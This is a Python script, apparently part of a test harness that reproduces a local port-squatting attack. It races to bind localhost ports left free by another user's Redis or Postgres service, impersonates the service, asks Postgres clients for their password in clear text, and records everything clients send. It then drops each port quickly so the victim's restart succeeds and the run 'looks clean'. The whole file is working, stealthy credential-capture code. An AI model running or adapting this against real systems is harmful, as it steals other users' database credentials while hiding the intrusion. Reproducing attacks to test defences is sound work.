"""Run by the attacker (standard library only): take a port of ours the moment it is free, play the server.

argv: the ports to watch (what another user learns from ``/proc/*/cmdline``
and ``/proc/net/tcp``). Whenever one of them can be bound, it is bound and
listened on, as an impostor would; whoever connects is answered as Redis
(``+OK`` to anything) or as Postgres (asking for the password in clear text),
and every byte it sends is kept. A port is let go a moment after its last
connection, so the victim's restart succeeds and the run looks clean (as in
the attack this reproduces). Ends when its standard input closes, printing
``{"bound": [ports], "received": [text]}`` as JSON.
"""
import json
import select
import socket
import struct
import sys
import threading
import time

HOLD = 0.3  # seconds a port is kept after its last connection
SSL_REQUEST, PROTOCOL_3 = 80877103, 196608
CLEARTEXT_PASSWORD = b"R" + struct.pack("!ii", 8, 3)

bound, received, lock = set(), [], threading.Lock()


def serve(conn):
    conn.settimeout(1.0)
    data = b""
    try:
        first = conn.recv(8192)
        data += first
        if len(first) >= 8 and struct.unpack("!i", first[4:8])[0] == SSL_REQUEST:
            conn.sendall(b"N")
            first = conn.recv(8192)
            data += first
        if len(first) >= 8 and struct.unpack("!i", first[4:8])[0] == PROTOCOL_3:
            conn.sendall(CLEARTEXT_PASSWORD)
        else:
            conn.sendall(b"+OK\r\n")
        for _ in range(4):
            more = conn.recv(8192)
            if not more:
                break
            data += more
            conn.sendall(b"+OK\r\n")
    except OSError:
        pass
    finally:
        conn.close()
        with lock:
            received.append(data.decode("latin-1"))


def try_bind(port):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        sock.bind(("127.0.0.1", port))
        sock.listen(16)
    except OSError:
        sock.close()
        return None
    sock.setblocking(False)
    return sock


def main():
    ports = [int(p) for p in sys.argv[1:]]
    held = {}  # port -> [socket, time of the last connection]
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stop.set()), daemon=True).start()
    while not stop.is_set():
        now = time.monotonic()
        for port in ports:
            if port not in held:
                sock = try_bind(port)
                if sock is not None:
                    held[port] = [sock, now]
                    bound.add(port)
        ready, _, _ = select.select([entry[0] for entry in held.values()], [], [], 0.002)
        for port, entry in list(held.items()):
            if entry[0] in ready:
                try:
                    conn, _ = entry[0].accept()
                except OSError:
                    continue
                conn.setblocking(True)
                threading.Thread(target=serve, args=(conn,), daemon=True).start()
                entry[1] = time.monotonic()
            elif time.monotonic() - entry[1] > HOLD:
                entry[0].close()
                del held[port]
    time.sleep(1.2)  # the connections being served finish
    with lock:
        print(json.dumps({"bound": sorted(bound), "received": received}))


main()
